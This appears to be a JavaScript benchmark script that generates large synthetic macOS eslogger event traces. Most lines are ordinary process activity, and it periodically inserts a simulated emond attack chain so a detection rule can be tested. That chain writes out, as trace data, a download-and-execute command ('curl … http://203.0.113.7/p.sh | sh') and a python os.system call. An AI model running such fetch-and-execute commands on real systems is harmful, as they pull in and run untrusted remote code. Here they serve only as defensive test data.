// Writes large synthetic eslogger traces for the scan benchmark: ES message version 9 lines of
// real size and layout (stat blocks, audit-token objects, `\/`-escaped paths, hash-ordered keys
// that differ from line to line as in Apple's output), mostly ordinary fork → exec → exit
// activity, with an emond chain now and then.
//
//   node scripts/bench/eslogger-trace.mjs OUT.ndjson EVENTS
//
// Each emond chain raises exactly two alerts under the built-in rule (emond → sh, and sh → python3
// exec'd in place, whose parent is still emond); its grandchild (sh → curl) does not.
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import { pathToFileURL } from 'node:url';

export const ALERTS_PER_EMOND_CHAIN = 2;

const PROGRAMS = [
  '/usr/bin/git', '/bin/ls', '/usr/bin/grep', '/usr/libexec/xpcproxy', '/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared',
  '/usr/bin/defaults', '/usr/sbin/system_profiler', '/bin/ps', '/usr/bin/sw_vers', '/Applications/Xcode.app/Contents/Developer/usr/bin/xcodebuild',
  '/opt/homebrew/bin/node', '/usr/bin/ssh', '/usr/local/bin/python3.12', '/usr/libexec/PerfPowerServicesExtended', '/usr/bin/codesign',
  '/usr/bin/plutil', '/usr/sbin/networksetup', '/usr/bin/tar', '/usr/bin/ditto', '/usr/libexec/periodic-wrapper',
];
const PARENTS = [
  { pid: 1, exe: '/sbin/launchd' },
  { pid: 412, exe: '/bin/zsh' },
  { pid: 918, exe: '/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal' },
  { pid: 1203, exe: '/usr/libexec/xpcproxy' },
  { pid: 2210, exe: '/opt/homebrew/bin/node' },
];
const EMOND = { pid: 333, exe: '/sbin/emond' };

function esc(path) {
  return path.replaceAll('/', '\\/');
}

/** Deterministic PRNG (mulberry32), so every run writes the same trace. */
function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function permute(entries, variant) {
  // A few fixed orders per object, picked per line: eslogger's key order is a hash order.
  const out = [...entries];
  for (let i = out.length - 1; i > 0; i--) {
    const j = (i * 7 + variant * 13) % (i + 1);
    [out[i], out[j]] = [out[j], out[i]];
  }
  return out;
}

function object(entries, variant) {
  return `{${permute(entries, variant).map(([k, v]) => `"${k}":${v}`).join(',')}}`;
}

function stat(variant, ino) {
  return object(
    [
      ['st_dev', '16777234'], ['st_ino', String(ino)], ['st_mode', '33261'], ['st_nlink', '1'], ['st_uid', '0'], ['st_gid', '0'],
      ['st_rdev', '0'], ['st_size', String(100000 + ino % 900000)], ['st_blocks', '2048'], ['st_blksize', '4096'], ['st_flags', '0'], ['st_gen', '0'],
      ['st_atimespec', '"2025-08-07T12:32:35.400606076Z"'], ['st_mtimespec', '"2025-04-29T23:31:45.000000000Z"'],
      ['st_ctimespec', '"2025-05-09T11:57:32.842789602Z"'], ['st_birthtimespec', '"2025-04-29T23:31:45.000000000Z"'],
    ],
    variant,
  );
}

function file(path, variant) {
  return object([['path', `"${esc(path)}"`], ['path_truncated', 'false'], ['stat', stat(variant, path.length * 7919)]], variant);
}

function token(pid, pidversion, variant) {
  return object(
    [['auid', '501'], ['euid', '501'], ['egid', '20'], ['ruid', '501'], ['rgid', '20'], ['pid', String(pid)], ['asid', '100019'], ['pidversion', String(pidversion)]],
    variant,
  );
}

function processTemplate(exe, variant) {
  const p = { pid: '\u0001', pv: '\u0002', ppid: '\u0003', ppv: '\u0004', exe };
  return object(
    [
      ['audit_token', token(p.pid, p.pv, variant)],
      ['ppid', String(p.ppid)],
      ['original_ppid', String(p.ppid)],
      ['group_id', String(p.pid)],
      ['session_id', String(p.pid)],
      ['codesigning_flags', '570556931'],
      ['is_platform_binary', 'true'],
      ['is_es_client', 'false'],
      ['cdhash', '"28CD2C759132B07D63C3A2B377AD440A6C66098E"'],
      ['signing_id', `"com.apple.${p.exe.slice(p.exe.lastIndexOf('/') + 1)}"`],
      ['team_id', 'null'],
      ['executable', file(p.exe, variant)],
      ['tty', 'null'],
      ['start_time', '"2025-08-07T13:21:35.877422Z"'],
      ['responsible_audit_token', token(p.pid, p.pv, variant + 1)],
      ['parent_audit_token', token(p.ppid, p.ppv, variant + 2)],
    ],
    variant,
  );
}

/** Process objects differ per line only in four numbers: build each (program, order) once. */
const templates = new Map();
const MARKER = /[\u0001-\u0004]/g;

function processJson(p, variant) {
  const key = `${p.exe}\u0000${variant}`;
  let template = templates.get(key);
  if (template === undefined) {
    const text = processTemplate(p.exe, variant);
    template = { parts: text.split(MARKER), slots: [...text.matchAll(MARKER)].map((m) => m[0].charCodeAt(0)) };
    templates.set(key, template);
  }
  const values = [undefined, p.pid, p.pv, p.ppid, p.ppv];
  let out = template.parts[0];
  for (let i = 0; i < template.slots.length; i++) out += values[template.slots[i]] + template.parts[i + 1];
  return out;
}

const ENV = JSON.stringify([
  'PATH=/usr/bin:/bin:/usr/sbin:/sbin:/opt/homebrew/bin', 'HOME=/Users/ann', 'SHELL=/bin/zsh', 'USER=ann', 'LOGNAME=ann', 'TMPDIR=/var/folders/xy/abcdefgh/T/',
  'LANG=en_US.UTF-8', 'TERM=xterm-256color', 'SSH_AUTH_SOCK=/private/tmp/com.apple.launchd.abc/Listeners', '__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0',
  'XPC_SERVICE_NAME=0', 'XPC_FLAGS=0x0', 'COMMAND_MODE=unix2003', 'PWD=/Users/ann/src/project', 'OLDPWD=/Users/ann',
]).replaceAll('/', '\\/');

class Writer {
  constructor(rand) {
    this.rand = rand;
    this.seq = 0;
    this.pv = 100000;
    this.nextPid = 3000;
    this.alerts = 0;
    this.chains = 0;
  }

  header(eventType) {
    this.seq++;
    const nanos = String(this.seq % 1e9).padStart(9, '0');
    return [
      ['schema_version', '1'], ['version', '9'], ['time', `"2025-08-07T13:21:35.${nanos}Z"`], ['mach_time', String(289350913517 + this.seq)],
      ['event_type', String(eventType)], ['action_type', '1'], ['action', '{"result":{"result_type":0,"result":{"auth":0}}}'],
      ['seq_num', String(this.seq)], ['global_seq_num', String(this.seq)], ['thread', `{"thread_id":${505819 + (this.seq % 97)}}`],
    ];
  }

  fork(parent, child) {
    const v = this.seq % 5;
    return object([...this.header(11), ['process', processJson(parent, v)], ['event', `{"fork":{"child":${processJson(child, v + 1)}}}`]], v);
  }

  exec(before, after, args, cwd) {
    const v = this.seq % 5;
    const body = object(
      [
        ['target', processJson(after, v)], ['args', JSON.stringify(args).replaceAll('/', '\\/')], ['env', ENV], ['cwd', file(cwd, v)], ['script', 'null'],
        ['last_fd', '2'], ['fds', '[{"fdtype":1,"fd":0},{"fdtype":1,"fd":1},{"fdtype":1,"fd":2}]'], ['image_cputype', '16777228'],
        ['image_cpusubtype', '2'], ['dyld_exec_path', `"${esc(after.exe)}"`],
      ],
      v,
    );
    return object([...this.header(9), ['process', processJson(before, v)], ['event', `{"exec":${body}}`]], v);
  }

  exit(p, stat) {
    const v = this.seq % 5;
    return object([...this.header(15), ['process', processJson(p, v)], ['event', `{"exit":{"stat":${stat}}}`]], v);
  }

  pid() {
    // Wraps like macOS pids do (99999), so pids are reused throughout a long trace.
    this.nextPid = this.nextPid >= 99998 ? 3000 : this.nextPid + 1;
    return this.nextPid;
  }

  /** fork → exec → exit of an ordinary program: three events. */
  *ordinary() {
    const parent = PARENTS[Math.floor(this.rand() * PARENTS.length)];
    const parentProcess = { pid: parent.pid, pv: 50 + parent.pid, ppid: 1, ppv: 1, exe: parent.exe };
    const exe = PROGRAMS[Math.floor(this.rand() * PROGRAMS.length)];
    const child = { pid: this.pid(), pv: this.pv++, ppid: parent.pid, ppv: parentProcess.pv, exe: parent.exe };
    yield this.fork(parentProcess, child);
    const after = { ...child, pv: this.pv++, exe };
    const args = [exe.slice(exe.lastIndexOf('/') + 1), '--quiet', `--item=${this.seq}`, '/Users/ann/Library/Application Support/Project/cache/data.bin'];
    yield this.exec(child, after, args, '/Users/ann/src/project');
    yield this.exit(after, 0);
  }

  /** emond → sh -c "curl … | sh" (alert); sh forks curl (grandchild, no alert); sh execs python3 in place (alert). */
  *emondChain() {
    this.chains++;
    const emond = { pid: EMOND.pid, pv: 4242, ppid: 1, ppv: 1, exe: EMOND.exe };
    const forked = { pid: this.pid(), pv: this.pv++, ppid: emond.pid, ppv: emond.pv, exe: emond.exe };
    yield this.fork(emond, forked);
    const shell = { ...forked, pv: this.pv++, exe: '/bin/sh' };
    this.alerts++; // emond → sh
    yield this.exec(forked, shell, ['sh', '-c', 'curl -s http://203.0.113.7/p.sh | sh'], '/');
    const grandchild = { pid: this.pid(), pv: this.pv++, ppid: shell.pid, ppv: shell.pv, exe: shell.exe };
    yield this.fork(shell, grandchild);
    const curl = { ...grandchild, pv: this.pv++, exe: '/usr/bin/curl' };
    yield this.exec(grandchild, curl, ['curl', '-s', 'http://203.0.113.7/p.sh'], '/');
    yield this.exit(curl, 0);
    const python = { ...shell, pv: this.pv++, exe: '/usr/bin/python3' };
    this.alerts++; // python3 exec'd in place of sh: its parent is still emond
    yield this.exec(shell, python, ['python3', '-c', 'import os; os.system("id")'], '/');
    yield this.exit(python, 0);
  }
}

export const DEFAULT_EMOND_EVERY = 5000;

/** Yields `events` lines; one emond chain (7 events) per `emondEvery` ordinary units (3 events each). */
export function* traceLines({ events, seed = 1, emondEvery = DEFAULT_EMOND_EVERY, writer = new Writer(random(seed)) }) {
  let written = 0;
  let units = 0;
  while (written < events) {
    const unit = ++units % emondEvery === 0 ? writer.emondChain() : writer.ordinary();
    for (const line of unit) {
      yield line;
      if (++written >= events) break;
    }
  }
}

/**
 * Writes one trace and its leading parts: each output gets the first `events` lines of the same
 * stream, so smaller inputs are true prefixes of the larger. Returns, per output, its size, event
 * count and the alerts it must raise.
 */
export async function writeTraces(outputs, { seed = 1, emondEvery = DEFAULT_EMOND_EVERY } = {}) {
  const total = Math.max(...outputs.map((o) => o.events));
  const files = outputs.map((o) => ({ ...o, stream: createWriteStream(o.path, { highWaterMark: 4 << 20 }), bytes: 0, expectedAlerts: 0 }));
  const writer = new Writer(random(seed));
  const lines = traceLines({ events: total, emondEvery, writer });
  let batch = '';
  let written = 0;
  let batchStart = 0;
  const flush = async () => {
    const bytes = Buffer.byteLength(batch);
    // Batches are cut at every prefix boundary, so a batch belongs to a file entirely or not at all.
    for (const file of files) {
      if (batchStart < file.events) {
        file.bytes += bytes;
        if (!file.stream.write(batch)) await once(file.stream, 'drain');
      }
    }
    batch = '';
    batchStart = written;
  };
  const boundaries = new Set(files.map((f) => f.events));
  for (const line of lines) {
    batch += `${line}\n`;
    written++;
    if (boundaries.has(written)) {
      for (const file of files) if (file.events === written) file.expectedAlerts = writer.alerts;
    }
    if (batch.length > 1 << 20 || boundaries.has(written)) await flush();
  }
  await flush();
  await Promise.all(files.map(async (file) => {
    file.stream.end();
    await once(file.stream, 'finish');
  }));
  return files.map(({ path, events, bytes, expectedAlerts }) => ({ path, events, bytes, expectedAlerts }));
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const [out, count] = process.argv.slice(2);
  if (!out || !count) {
    console.error('usage: node scripts/bench/eslogger-trace.mjs OUT.ndjson EVENTS');
    process.exit(2);
  }
  const [info] = await writeTraces([{ path: out, events: Number(count) }]);
  console.log(JSON.stringify(info));
}
